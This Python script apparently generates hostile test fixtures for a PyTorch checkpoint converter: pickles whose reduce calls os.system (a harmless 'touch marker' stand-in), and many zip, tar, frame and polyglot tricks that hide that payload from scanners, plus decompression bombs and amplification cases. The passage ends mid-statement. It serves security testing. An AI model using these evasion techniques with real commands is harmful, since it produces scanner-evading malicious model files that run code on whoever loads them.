#!/usr/bin/env python3
"""Generate the hostile corpus: files that attack timmconv's reader, scan and writer.

Pinned: torch 2.11.0 (checked at start). Run from the repository root:

    python tools/make_hostile.py            # writes fixtures/hostile/ and its MANIFEST.json

Every file is a few kilobytes; attacks that need big files (hundreds of MiB of deflated zeros,
hundreds of thousands of zip entries) are built at test time by `build_large()` below, which
tests/python/test_hostile.py imports.

For every file the manifest says which class of attack it is (the classes of issue 10), what it
does, and `runs_code`: whether `torch.load(weights_only=False)` runs its payload. That is not
assumed: the generator loads each file with torch in a throw-away subprocess whose working folder
is empty, and the payload (`os.system('touch <marker>')`) must create the marker there.
"""

import hashlib
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib
from collections import OrderedDict
from pathlib import Path

import torch

TORCH_VERSION = "2.11.0"
ROOT = Path(__file__).resolve().parent.parent
OUT = ROOT / "fixtures" / "hostile"
MAGIC = 0x1950A86A20F9469CFC6C
MARKER = "timmconv-hostile-marker"


class Payload:
    """Unpickled by Python, runs `touch MARKER` in the working folder."""

    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


# ---------------------------------------------------------------------------------------------
# hand-made torch.save contents: storages and tensors pickled exactly as torch does, with any
# persistent id, storage type, shape and stride we like


class Storage:
    def __init__(self, pid):
        self.pid = pid


class Tensor:
    def __init__(self, storage, offset, size, stride):
        self.args = (storage, offset, tuple(size), tuple(stride), False, OrderedDict())

    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2, self.args)


class TorchPickler(pickle.Pickler):
    def persistent_id(self, obj):
        return obj.pid if isinstance(obj, Storage) else None


def torch_pickle(obj, protocol=2):
    buf = io.BytesIO()
    TorchPickler(buf, protocol=protocol).dump(obj)
    return buf.getvalue()


def zip_pid(stype, key, numel):
    return Storage(("storage", stype, key, "cpu", numel))


def zip_ckpt(pkl, storages=None, name="archive", pkl_name="data.pkl", compress=zipfile.ZIP_STORED,
             extra=()):
    """A torch.save-like zip: `<name>/data.pkl`, byteorder, `<name>/data/<key>` members."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compress) as z:
        z.writestr(f"{name}/{pkl_name}", pkl)
        z.writestr(f"{name}/byteorder", "little")
        z.writestr(f"{name}/version", "3\n")
        for key, data in (storages or {}).items():
            z.writestr(f"{name}/data/{key}", data)
        for member, data in extra:
            z.writestr(member, data)
    return buf.getvalue()


def legacy_ckpt(obj_pickle, keys, storages, sys_info=None):
    """A legacy torch.save stream: magic, version, sys_info, object, keys, raw storages."""
    out = io.BytesIO()
    out.write(pickle.dumps(MAGIC, protocol=2))
    out.write(pickle.dumps(1001, protocol=2))
    out.write(pickle.dumps(sys_info or dict(protocol_version=1001, little_endian=True,
                                            type_sizes=dict(short=2, int=4, long=4)), protocol=2))
    out.write(obj_pickle)
    out.write(pickle.dumps(keys, protocol=2))
    for numel, data in storages:
        out.write(struct.pack("<q", numel))
        out.write(data)
    return out.getvalue()


def float_bytes(n, value=0.5):
    return struct.pack(f"<{n}f", *([value] * n))


def payload_pickle(protocol):
    return pickle.dumps({"weight": Payload()}, protocol=protocol)


# ---------------------------------------------------------------------------------------------
# the corpus

FILES = []


def add(name, data, cls, what, expect):
    """`expect`: convert's exit code (0 or 2), and `message`, a text its error must hold."""
    FILES.append(dict(file=name, data=data, cls=cls, what=what, **expect))


def class1_scan_fooled():
    # a payload in a legacy pickle, then a parse error later in the same pickle
    errors = {
        "junk_opcode": b"\xff",
        "bad_text_int": b"I12x\n",
        "build_on_list": b"]N" + b"b",
        "lone_surrogate": b"X\x03\x00\x00\x00\xed\xa0\x80.",
    }
    for protocol in (0, 2, 3):
        pay = payload_pickle(protocol)
        assert pay.endswith(b".")
        for kind, tail in errors.items():
            broken = pay[:-1] + b"0" + tail  # POP the dict, then the error
            data = legacy_ckpt(broken, [], [])
            add(f"legacy_p{protocol}_payload_then_{kind}.pth", data, 1,
                f"payload in the object pickle (protocol {protocol}), then {kind}",
                dict(convert=2, message="posix.system"))
    # payload in sys_info (pickle 2), then a broken object pickle
    out = io.BytesIO()
    out.write(pickle.dumps(MAGIC, protocol=2))
    out.write(pickle.dumps(1001, protocol=2))
    out.write(pickle.dumps(Payload(), protocol=2))
    out.write(b"\x80\x02\xff")
    add("legacy_payload_in_sys_info.pth", out.getvalue(), 1,
        "payload in sys_info, then an unreadable object pickle", dict(convert=2, message=""))
    # the pre-0.4 tar format: torch.load's legacy_load unpickles the `storages` member
    for variant in ("storages", "pickle_name"):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
            members = {
                "sys_info": pickle.dumps(dict(protocol_version=1001, little_endian=True), protocol=2),
                "storages": pickle.dumps(1, protocol=2) + pickle.dumps(Payload(), protocol=2),
                "tensors": pickle.dumps(0, protocol=2),
                "pickle": pickle.dumps({}, protocol=2),
            }
            order = list(members)
            if variant == "pickle_name":
                order = ["pickle"] + [m for m in order if m != "pickle"]
            for m in order:
                info = tarfile.TarInfo(m)
                info.size = len(members[m])
                tar.addfile(info, io.BytesIO(members[m]))
        add(f"tar_payload_{variant}.pth", buf.getvalue(), 1,
            "pre-0.4 tar format, payload in the storages member", dict(convert=2, message="tar"))
    # torch looks records up ignoring case: archive/data.PKL is its data.pkl
    pay = payload_pickle(2)
    add("zip_data_PKL_uppercase.pth", zip_ckpt(pay, pkl_name="data.PKL"), 1,
        "payload in archive/data.PKL, found by torch's case-insensitive lookup",
        dict(convert=2, message="posix.system"))
    harmless = torch_pickle(OrderedDict())
    add("zip_data_pkl_two_cases.pth",
        zip_ckpt(harmless, extra=[("archive/DATA.pkl", pay)]), 1,
        "a harmless data.pkl and a payload in DATA.pkl: torch may read either",
        dict(convert=2, message="case"))
    # a Unicode-path extra field renames entries for the zip crate, not for torch (miniz)
    add("zip_unicode_extra_rename.pth", unicode_renamed(pay, harmless), 1,
        "raw name data.pkl holds the payload; an extra field renames a harmless member to "
        "data.pkl for readers that honour it", dict(convert=2, message="extra field"))
    add("zip_duplicate_names.pth", zip_ckpt(harmless, extra=[("archive/data.pkl", pay)]), 1,
        "two members named archive/data.pkl", dict(convert=2, message="distinct names"))
    add("zip_local_header_disagrees.pth", local_name_patched(pay), 1,
        "the local header names another file than the central directory",
        dict(convert=2, message="local header"))
    add("zip_overlapping_members.pth", overlapping(pay), 1,
        "two central-directory entries over the same local member", dict(convert=2, message="overlap"))
    add("zip_two_end_records.pth", two_end_records(pay, harmless), 1,
        "a comment hides a second end-of-central-directory record",
        dict(convert=2, message="end-of-central-directory"))
    add("zip_payload_in_other_pkl.pth", zip_ckpt(harmless, extra=[("archive/extra.pkl", pay)]), 1,
        "a harmless data.pkl and a payload in another .pkl member (torch does not run it; the "
        "scan still flags it)", dict(convert=0, message=""))
    add("zip_root_from_first_member.pth", first_member_root(pay), 1,
        "the first member lies in another folder, which torch takes as the root",
        dict(convert=2, message="data.pkl"))


def unicode_extra(raw_name: bytes, new_name: str) -> bytes:
    body = b"\x01" + struct.pack("<I", zlib.crc32(raw_name)) + new_name.encode()
    return struct.pack("<HH", 0x7075, len(body)) + body


def unicode_renamed(payload, harmless):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        a = zipfile.ZipInfo("archive/data.pkl")
        a.extra = unicode_extra(b"archive/data.pkl", "archive/ignored.pkl")
        z.writestr(a, payload)
        b = zipfile.ZipInfo("archive/xdata.pkl")
        b.extra = unicode_extra(b"archive/xdata.pkl", "archive/data.pkl")
        z.writestr(b, harmless)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def local_name_patched(payload):
    data = bytearray(zip_ckpt(payload))
    # the first local header: name at offset 30; make it archive/data.pkm
    name = b"archive/data.pkl"
    assert data[30:30 + len(name)] == name
    data[30 + len(name) - 1] = ord("m")
    return bytes(data)


def central_entries(data):
    eocd = data.rfind(b"PK\x05\x06")
    n, size, start = struct.unpack("<HII", data[eocd + 10:eocd + 20])
    return eocd, n, size, start


def local_header(name: bytes, data: bytes) -> bytes:
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(data), len(data),
                       len(data), len(name), 0) + name


def central_header(name: bytes, data: bytes, offset: int) -> bytes:
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, zlib.crc32(data),
                       len(data), len(data), len(name), 0, 0, 0, 0, 0, offset) + name


def overlapping(payload):
    """Member `archive/pad` whose stored bytes hold a whole local member `archive/data.pkl`
    (the payload), which a second central entry points at: miniz reads it, and the two
    entries share bytes."""
    inner_name = b"archive/data.pkl"
    inner = local_header(inner_name, payload) + payload
    outer_name = b"archive/pad"
    body = local_header(outer_name, inner) + inner
    tail = b""
    entries = []
    for name, data in [(b"archive/byteorder", b"little"), (b"archive/version", b"3\n")]:
        entries.append((name, data, len(body) + len(tail)))
        tail += local_header(name, data) + data
    inner_at = len(local_header(outer_name, inner))
    cd = central_header(outer_name, inner, 0) + central_header(inner_name, payload, inner_at)
    for name, data, at in entries:
        cd += central_header(name, data, at)
    start = len(body) + len(tail)
    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 4, 4, len(cd), start, 0)
    return body + tail + cd + eocd


def two_end_records(payload, harmless):
    decoy = zip_ckpt(harmless)
    real = zip_ckpt(payload)
    # the real archive, whose comment is the decoy's end record (pointing at nothing useful)
    eocd = decoy.rfind(b"PK\x05\x06")
    comment = decoy[eocd:eocd + 22]
    data = bytearray(real)
    end = data.rfind(b"PK\x05\x06")
    data[end + 20:end + 22] = struct.pack("<H", len(comment))
    return bytes(data) + comment


def first_member_root(payload):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("other/version", "3\n")
        z.writestr("archive/data.pkl", payload)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def stored_members(entries, base=0):
    """Stored local members of `entries` ((name, data) pairs) laid out from offset `base`;
    returns (their bytes, a central directory that lists them)."""
    body, cd = b"", b""
    for name, data in entries:
        cd += central_header(name, data, base + len(body))
        body += local_header(name, data) + data
    return body, cd


def end_record(n, cd_size, cd_start, comment_len=0):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_start, comment_len)


def zip64_end(n, cd_size, cd_start, at):
    """A zip64 end record at offset `at` and the locator that points at it."""
    record = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, cd_size, cd_start)
    return record + struct.pack("<IIQI", 0x07064B50, 0, at, 1)


def two_directories(payload, harmless, how):
    """Two complete central directories over two sets of members, one holding the payload in
    `archive/data.pkl`, one harmless; `how` says which end record names which directory:
    - "zip64": the classic end record names the harmless one (the zip crate follows it unless
      its counts are saturated), a zip64 locator and record before it name the payload's
      (miniz follows a valid locator whatever the classic record says);
    - "bad_comment": the last end record (miniz's) names the payload's but declares a comment
      running past the end of the file; the zip crate skips it and searches on backwards, past
      64 KiB of padding, to an end record naming the harmless one."""
    def members(pkl):
        return [(b"archive/data.pkl", pkl), (b"archive/byteorder", b"little"),
                (b"archive/version", b"3\n"), (b"archive/data/0", float_bytes(4))]
    pay_body, pay_cd = stored_members(members(payload))
    ok_body, ok_cd = stored_members(members(harmless), len(pay_body))
    data = pay_body + ok_body
    ok_at = len(data)
    data += ok_cd
    if how == "zip64":
        pay_at = len(data)
        data += pay_cd
        data += zip64_end(4, len(pay_cd), pay_at, len(data))
        return data + end_record(4, len(ok_cd), ok_at)
    data += end_record(4, len(ok_cd), ok_at) + b"\0" * 70_000
    pay_at = len(data)
    return data + pay_cd + end_record(4, len(pay_cd), pay_at, comment_len=500)


def end_record_tricks():
    pay = payload_pickle(2)
    harmless = torch_pickle(OrderedDict(w=Tensor(zip_pid(torch.FloatStorage, "0", 4), 0, [4], [1])))
    add("zip64_locator_names_other_directory.pth", two_directories(pay, harmless, "zip64"), 1,
        "classic end record -> a harmless directory, a zip64 locator -> the payload's (miniz "
        "reads the zip64 one)", dict(convert=2, message=""))
    add("zip_last_end_record_bad_comment.pth", two_directories(pay, harmless, "bad_comment"), 1,
        "the last end record (miniz's) names the payload's directory with a comment length past "
        "the end; an earlier one, 64 KiB back, names a harmless one",
        dict(convert=2, message=""))
    # not hostile: torch 1.6-1.x named the root folder after the saved file, raw UTF-8 bytes
    # without the zip UTF-8 flag (which the zip crate then decodes as CP437); torch loads it
    root = "modèle".encode()
    body, cd = stored_members([(root + b"/data.pkl", harmless), (root + b"/byteorder", b"little"),
                               (root + b"/version", b"3\n"), (root + b"/data/0", float_bytes(4))])
    add("zip_nonascii_root_no_utf8_flag.pth", body + cd + end_record(4, len(cd), len(body)), 0,
        "a legitimate archive whose root folder is a non-ASCII file stem, no UTF-8 flag (as "
        "torch 1.6-1.x saved `modèle.pth`): must convert with torch's values",
        dict(convert=0, message=""))


def class2_hang():
    g = b"ctorch._tensor\n_rebuild_from_type_v2\nq\x01"
    # L = [G, None, L]; {'w': G(G, None, L)}
    data = b"\x80\x02}q\x00X\x01\x00\x00\x00w" + g + b"h\x01N]q\x02(h\x01Nh\x02e\x87Rs."
    add("self_referential_rebuild.pth", zip_ckpt(data), 2,
        "_rebuild_from_type_v2 whose arguments hold themselves", dict(convert=2, message=""))
    # G(G, None, (G, None, (... ()))): 3000 nested rebuilds
    depth = 3000
    data = (b"\x80\x02}X\x01\x00\x00\x00w" + g + b"h\x01N" * depth + b")" + b"\x87" * depth +
            b"Rs.")
    add("deep_rebuild_chain.pth", zip_ckpt(data), 2, f"{depth} nested _rebuild_from_type_v2 calls",
        dict(convert=2, message="MAX_DEPTH"))


def class3_bombs():
    def dz(name, pkl, what):
        add(name, zip_ckpt(pkl, compress=zipfile.ZIP_DEFLATED), 3, what,
            dict(convert=2, message="MAX_"))
    # a DAG: l_i = (l_{i-1}, l_{i-1}); a tree expansion is 2^40 nodes
    for depth in (22, 40):
        p = b"\x80\x02N"
        for i in range(depth):
            p += b"r" + struct.pack("<I", i) + b"j" + struct.pack("<I", i) + b"\x86"
        p += b"r" + struct.pack("<I", 999) + b"0}X\x01\x00\x00\x00wj" + struct.pack("<I", 999) + b"s."
        add(f"dag_depth{depth}.pth", zip_ckpt(p), 3,
            f"shared references {depth} deep (2^{depth} nodes as a tree); the entry is no tensor",
            dict(convert=0, message=""))
    dz("deflated_memo_bomb.pth", b"\x80\x04N" + b"\x94" * (60 << 20) + b".",
       "60 Mi MEMOIZE opcodes in a deflated data.pkl")
    dz("deflated_none_bomb.pth", b"\x80\x02]" + (b"(" + b"N" * 500000 + b"e") * 120 + b".",
       "60 M Nones appended to a list")
    s = b"X\x00\x00\x10\x00" + b"a" * (1 << 20)
    dz("deflated_string_copies.pth", b"\x80\x02" + s + b"q\x00](" + b"h\x00" * (20 << 20) + b"e.",
       "20 M references to one 1 MiB string")
    dz("deflated_object_bomb.pth", b"\x80\x02]" + (b"(" + b"}" * 400000 + b"e") * 40 + b".",
       "16 M empty dicts")
    add("deflated_string_bomb.pth",
        zip_ckpt(b"\x80\x02](" + (b"X\x00\x00\x01\x00" + b"b" * 65536) * 900 + b"e.",
                 compress=zipfile.ZIP_DEFLATED), 3,
        "900 64 KiB strings (60 MB, within the budgets; the list is no state dict)",
        dict(convert=2, message="not a state dict"))
    add("text_int_digits.pth", zip_ckpt(b"\x80\x02}X\x01\x00\x00\x00wI" + b"7" * 5000 + b"\ns."), 10,
        "a text INT of 5000 digits (over MAX_LONG_BYTES)", dict(convert=2, message="MAX_LONG_BYTES"))
    add("text_long_digits.pth",
        zip_ckpt(b"\x80\x02}X\x01\x00\x00\x00wL" + b"7" * 100000 + b"L\ns."), 10,
        "a text LONG of 100 000 digits", dict(convert=2, message="MAX_LONG_BYTES"))


def class4_amplification():
    one = zip_pid(torch.ByteStorage, "0", 1)
    for name, size, stride, what in [
        ("stride0_2p62.pth", [2 ** 31, 2 ** 31], [0, 0], "shape [2^31, 2^31], stride 0, over 1 byte"),
        ("stride0_2gib.pth", [2 ** 31], [0], "2 GiB view of one byte"),
    ]:
        pkl = torch_pickle(OrderedDict(w=Tensor(one, 0, size, stride)))
        add(name, zip_ckpt(pkl, {"0": b"\x01"}), 4, what, dict(convert=2, message="MAX_AMPLIFICATION"))
    many = OrderedDict((f"w{i}", Tensor(one, 0, [2 ** 60], [0])) for i in range(32))
    add("stride0_totals_wrap.pth", zip_ckpt(torch_pickle(many), {"0": b"\x01"}), 4,
        "32 tensors of 2^60 elements: a u64 total would wrap", dict(convert=2, message="MAX_AMPLIFICATION"))
    fs = zip_pid(torch.FloatStorage, "0", 4)
    add("stride0_within_limit.pth",
        zip_ckpt(torch_pickle(OrderedDict(w=Tensor(fs, 0, [8, 4], [0, 1]))), {"0": float_bytes(4)}),
        4, "an expanded (stride-0) tensor within the limit: converted like torch", dict(convert=0, message=""))


def class6_long_names():
    fs = zip_pid(torch.FloatStorage, "0", 1)
    for n in (65536, 70000):
        sd = OrderedDict([("x" * n, Tensor(fs, 0, [1], [1]))])
        add(f"name_{n}_chars.pth", zip_ckpt(torch_pickle(sd), {"0": float_bytes(1)}), 6,
            f"a tensor name of {n} characters", dict(convert=0, message=""))


def class7_unreadable_output():
    add("tensor_named_metadata.pth",
        zip_ckpt(torch_pickle(OrderedDict(__metadata__=Tensor(zip_pid(torch.FloatStorage, "0", 2), 0, [2], [1]))),
                 {"0": float_bytes(2)}),
        7, "a tensor named __metadata__", dict(convert=2, message="__metadata__"))
    fs = zip_pid(torch.FloatStorage, "0", 1)
    sd = OrderedDict((f"{i:04d}" + "n" * 1000, Tensor(fs, 0, [1], [1])) for i in range(1000))
    add("thousand_kilobyte_names.pth", zip_ckpt(torch_pickle(sd), {"0": float_bytes(1)}), 7,
        "1000 names of 1 KB (a rename that repeats them 100 times makes a 100 MB header)",
        dict(convert=0, message=""))


def class9_torch_differs():
    f = zip_pid(torch.FloatStorage, "0", 4)
    h = zip_pid(torch.HalfStorage, "0", 8)
    sd = OrderedDict(a=Tensor(f, 0, [4], [1]), b=Tensor(h, 0, [8], [1]))
    add("storage_two_dtypes.pth", zip_ckpt(torch_pickle(sd), {"0": float_bytes(4)}), 9,
        "one storage key used as FloatStorage and as HalfStorage", dict(convert=2, message="declared"))
    # legacy: a tensor over a view storage that reads past the view (inside the root)
    view_pid = Storage(("storage", torch.FloatStorage, "0", "cpu", 8, ("v", 0, 2)))
    obj = torch_pickle(OrderedDict(w=Tensor(view_pid, 0, [4], [1])))
    add("legacy_view_past_view.pth", legacy_ckpt(obj, ["0"], [(8, float_bytes(8))]), 9,
        "a tensor of 4 elements over a 2-element view storage", dict(convert=2, message="view"))
    root_pid = Storage(("storage", torch.FloatStorage, "0", "cpu", 4, None))
    obj = torch_pickle(OrderedDict(w=Tensor(root_pid, 0, [4], [1])))
    add("legacy_record_size_differs.pth", legacy_ckpt(obj, ["0"], [(6, float_bytes(6))]), 9,
        "the storage record holds 6 elements, the pickle declares 4 (torch refuses)",
        dict(convert=2, message="declares"))
    view_pid = Storage(("storage", torch.FloatStorage, "0", "cpu", 4, ("v", 2, 4)))
    obj = torch_pickle(OrderedDict(w=Tensor(view_pid, 0, [1], [1])))
    add("legacy_view_past_root.pth", legacy_ckpt(obj, ["0"], [(4, float_bytes(4))]), 9,
        "a view storage (2 + 4) past its 4-element root", dict(convert=2, message="view"))


def class10_lesser():
    fs = zip_pid(torch.FloatStorage, "0", 1)
    for label, name in [("cr", "ok\rdangerous fake.global in pickle 0"),
                        ("esc", "\x1b[2J\x1b[Hok"), ("newline", "a\nok: only allowed"),
                        ("bidi", "abc\u202edcba")]:
        sd = OrderedDict([(name, Tensor(fs, 0, [1], [1]))])
        add(f"name_with_{label}.pth", zip_ckpt(torch_pickle(sd), {"0": float_bytes(1)}), 10,
            f"a tensor name with {label} characters",
            dict(convert=0, message="") if label == "bidi" else dict(convert=2, message="control"))
    spoof = (b"\x80\x02c" + b"os\rallowed   collections.OrderedDict\nsystem\n" +
             b"X\x02\x00\x00\x00id\x85R.")
    add("global_name_with_cr.pth", zip_ckpt(spoof), 10,
        "a global whose module name holds \\r to overwrite the scan line", dict(convert=2, message=""))
    # bf16 NaN payloads: cast to bf16 must write torch's NaN
    nans = struct.pack("<5I", 0x7FC00001, 0xFFC00000, 0x7F800001, 0xFF812345, 0x7FFFFFFF)
    nan_pid = zip_pid(torch.FloatStorage, "0", 5)
    add("nan_payloads.pth", zip_ckpt(torch_pickle(OrderedDict(w=Tensor(nan_pid, 0, [5], [1]))), {"0": nans}),
        10, "f32 NaNs with payloads and signs (cast to bf16)", dict(convert=0, message=""))


def extras():
    # truncations and a few structural lies
    good = zip_ckpt(torch_pickle(OrderedDict(w=Tensor(zip_pid(torch.FloatStorage, "0", 4), 0, [4], [1]))),
                    {"0": float_bytes(4)})
    for cut in (30, len(good) // 2, len(good) - 10):
        add(f"truncated_zip_{cut}.pth", good[:cut], 0, f"a zip cut at {cut} bytes", dict(convert=2, message=""))
    lie = zip_ckpt(torch_pickle(OrderedDict(w=Tensor(zip_pid(torch.FloatStorage, "0", 1 << 40), 0, [4], [1]))),
                   {"0": float_bytes(4)})
    add("storage_size_lie.pth", lie, 0, "a storage declaring 2^40 elements over 16 bytes",
        dict(convert=2, message="holds"))
    neg = zip_ckpt(torch_pickle(OrderedDict(w=Tensor(zip_pid(torch.FloatStorage, "0", 4), -1, [4], [1]))),
                   {"0": float_bytes(4)})
    add("negative_offset.pth", neg, 0, "a negative storage offset", dict(convert=2, message="negative"))
    missing = zip_ckpt(torch_pickle(OrderedDict(w=Tensor(zip_pid(torch.FloatStorage, "9", 4), 0, [4], [1]))),
                       {"0": float_bytes(4)})
    add("missing_storage.pth", missing, 0, "a tensor whose storage member is missing",
        dict(convert=2, message="missing"))
    add("empty_zip_member_root.pth", zip_ckpt(b"", pkl_name="data.pkl"), 0, "an empty data.pkl",
        dict(convert=2, message=""))
    add("ratio_lie.pth", deflate_ratio_lie(), 0, "a deflated member declaring 1000x its ratio",
        dict(convert=2, message="RATIO"))


def deflate_ratio_lie():
    data = bytearray(zip_ckpt(torch_pickle(OrderedDict()), compress=zipfile.ZIP_DEFLATED))
    eocd, n, size, start = central_entries(data)
    # uncompressed size of the first central entry: offset 24
    data[start + 24:start + 28] = struct.pack("<I", 0x7FFFFFFF)
    return bytes(data)


# ---------------------------------------------------------------------------------------------
# third pass (branch red): tar sniffing, text integers, and what torch's rebuild functions and
# the BUILD/SETITEM opcodes do to a tensor after it is rebuilt


class Reduce:
    """Pickles as `func(*args)`, with optional BUILD `state` and SETITEMS `items`."""

    def __init__(self, func, args, state=None, items=None):
        self.func, self.args, self.state, self.items = func, args, state, items

    def __reduce__(self):
        return (self.func, self.args, self.state, None,
                iter(self.items) if self.items is not None else None)


def tar_block(name: bytes, size: int, magic: bool) -> bytes:
    """One tar header block: a V7 header (no magic) or a ustar one, with a valid checksum."""
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = b"0000000\0"
    h[116:124] = b"0000000\0"
    h[124:136] = b"%011o\0" % size
    h[136:148] = b"00000000000\0"
    h[156:157] = b"0"
    if magic:
        h[257:265] = b"ustar\x0000"
    h[148:156] = b" " * 8
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def tar_with_pickles_first(first_name: bytes, magic: bool) -> bytes:
    """A tar archive that torch.load opens with `tarfile` (its pre-0.4 `legacy_load`, which
    unpickles the `storages` member with plain pickle.load), whose first header starts with
    five tiny pickles: a scan that reads the file as a legacy pickle stream sees only those."""
    members = [
        (first_name, b""),
        (b"storages", pickle.dumps(1, protocol=2) + pickle.dumps(Payload(), protocol=2)),
        (b"tensors", pickle.dumps(0, protocol=2)),
        (b"pickle", pickle.dumps({}, protocol=2)),
    ]
    out = b""
    for name, data in members:
        out += tar_block(name, len(data), magic) + data + b"\0" * (-len(data) % 512)
    return out + b"\0" * 1024


def safetensors_tar_polyglot():
    """A valid safetensors file (one U8 tensor) whose first 512 bytes are also a V7 tar header:
    the tar fields lie in a JSON string of `__metadata__` (octal digits and spaces), the first
    member's data is the rest of the JSON header, and the tensor's bytes are the tar's next
    members, `storages` holding a payload. timmconv reads a safetensors file (no pickle);
    torch.load tries tarfile first."""
    rest = tar_with_pickles_first(b"x", True)[512:]
    n_header = 1016  # the JSON header fills bytes 8..1024; the tensor data starts at 1024
    block = bytearray(b" " * 512)
    for at, v in {100: b"0000644 ", 108: b"0000000 ", 116: b"0000000 ", 124: b"00000001000 ",
                  136: b"00000000000 ", 156: b"0"}.items():
        block[at:at + len(v)] = v
    head = struct.pack("<Q", n_header) + b'{"__metadata__":{"a":"'
    block[:len(head)] = head
    block[148:156] = b"%06o  " % (256 + sum(block[:148]) + sum(block[156:]))
    tail = json.dumps({"t": {"dtype": "U8", "shape": [len(rest)], "data_offsets": [0, len(rest)]}})
    header = bytes(block[8:]) + b'"},' + tail[1:].encode()
    header += b" " * (n_header - len(header))
    return struct.pack("<Q", n_header) + header + rest


def red_findings():
    # R1: torch.load tries tarfile first, and Python's tarfile accepts a header by its checksum
    # alone (a V7 header has no magic); the scan only looked for "ustar" at byte 257, and only
    # when the file did not start like a pickle
    add("tar_v7_header_is_five_pickles.pth", tar_with_pickles_first(b"N.N.N.N.N.", False), 1,
        "a V7 tar (no ustar magic) whose first member's name is five pickles `N.`; torch's "
        "tarfile loader unpickles the `storages` member (payload)", dict(convert=2, message="tar"))
    add("tar_ustar_header_starts_as_pickle.pth",
        tar_with_pickles_first(b"\x80\x02N." * 5, True), 1,
        "a ustar tar whose first member's name starts with 0x80 0x02, so the file is sniffed as "
        "a legacy pickle stream; torch's tarfile loader unpickles the `storages` member (payload)",
        dict(convert=2, message="tar"))
    # the same tar, its first member's name starting with an empty zip's end-record signature
    # (torch reads a zip only when the file starts with PK\x03\x04), and a harmless torch.save
    # archive 70 000 bytes on, which is all a zip reader sees
    tar = tar_with_pickles_first(b"PK\x05\x06", True) + b"\0" * 70_000
    harmless = torch_pickle(OrderedDict(w=Tensor(zip_pid(torch.FloatStorage, "0", 4), 0, [4], [1])))
    body, cd = stored_members([(b"archive/data.pkl", harmless), (b"archive/byteorder", b"little"),
                               (b"archive/version", b"3\n"), (b"archive/data/0", float_bytes(4))],
                              len(tar))
    add("tar_then_zip_end_signature_first.pth", tar + body + cd + end_record(4, len(cd), len(tar) + len(body)),
        1, "a tar whose first name starts with PK\\x05\\x06 and a harmless zip after it: zip readers "
        "see the zip, torch (no PK\\x03\\x04 at offset 0) the tar and its payload",
        dict(convert=2, message="tar"))
    add("safetensors_tar_polyglot.pth", safetensors_tar_polyglot(), 1,
        "a valid safetensors file whose first block is also a tar header (fields inside a "
        "__metadata__ string) and whose tensor bytes are the tar's `storages` payload",
        dict(convert=2, message="tar"))
    # R1d: CPython's unpickler reads a large FRAME from the file whole (read(n), not peek), so
    # after a STOP inside the frame, the file is at the frame's end: torch.load's next pickle of
    # a legacy file starts there, not after the STOP. The frame holds the magic number and four
    # decoy pickles `N.`; after it come the version and a sys_info payload
    magic = pickle.dumps(MAGIC, protocol=2)[2:]
    frame = magic + b"N." * 4
    frame += b"\0" * (200_000 - len(frame))
    data = (b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + pickle.dumps(1001, protocol=2)
            + pickle.dumps(Payload(), protocol=2) + pickle.dumps({}, protocol=2)
            + pickle.dumps([], protocol=2))
    add("legacy_frame_hides_next_pickles.pth", data, 1,
        "the magic-number pickle's FRAME runs 200 000 bytes past its STOP (five pickles for a "
        "reader that goes on after STOP); torch reads its next pickles after the frame: sys_info "
        "is a payload", dict(convert=2, message="frame"))
    # R8: raw-unicode-escape (the UNICODE opcode) reads \u only after an odd run of backslashes
    named = torch_pickle(OrderedDict(wwwwwwww=Tensor(zip_pid(torch.FloatStorage, "0", 4), 0, [4], [1])))
    key = b"X\x08\x00\x00\x00wwwwwwww"
    assert named.count(key) == 1
    add("unicode_name_even_backslashes.pth",
        zip_ckpt(named.replace(key, b"Vw\\\\u0041\n"), {"0": float_bytes(4)}), 9,
        "a tensor named with the UNICODE opcode `w\\\\u0041`: Python keeps both backslashes and "
        "the escape as written", dict(convert=0, message=""))
    # R9 (false refusal): a central entry whose 32-bit sizes are not saturated but which carries
    # a 24-byte zip64 field with other sizes; miniz reads the zip64 field only for saturated
    # values (the zip crate reads all three whenever the field is 24 bytes long)
    fsw = zip_pid(torch.FloatStorage, "0", 4)
    body, cd = stored_members([(b"archive/data.pkl", torch_pickle(OrderedDict(w=Tensor(fsw, 0, [4], [1])))),
                               (b"archive/byteorder", b"little"), (b"archive/version", b"3\n"),
                               (b"archive/data/0", float_bytes(4))])
    last = cd.rindex(b"PK\x01\x02")
    entry = bytearray(cd[last:])
    offset = struct.unpack("<I", entry[42:46])[0]
    extra = struct.pack("<HHQQQ", 1, 24, 8, 8, offset)
    entry[30:32] = struct.pack("<H", len(extra))
    cd = cd[:last] + bytes(entry) + extra
    add("zip64_field_unsaturated_sizes.pth", body + cd + end_record(4, len(cd), len(body)), 0,
        "data/0's central entry: 16-byte sizes, and a 24-byte zip64 field saying 8 (miniz, hence "
        "torch, ignores the field: the 32-bit sizes are not saturated)", dict(convert=0, message=""))
    # R2: a text INT is read by CPython's C unpickler with strtol(s, base 0): "010" is 8
    values = struct.pack("<16f", *range(16))
    fs16 = zip_pid(torch.FloatStorage, "0", 16)
    pkl = torch_pickle(OrderedDict(w=Tensor(fs16, 777, [4], [1])))
    assert pkl.count(b"M\x09\x03") == 1
    add("text_int_octal_offset.pth", zip_ckpt(pkl.replace(b"M\x09\x03", b"I010\n"), {"0": values}),
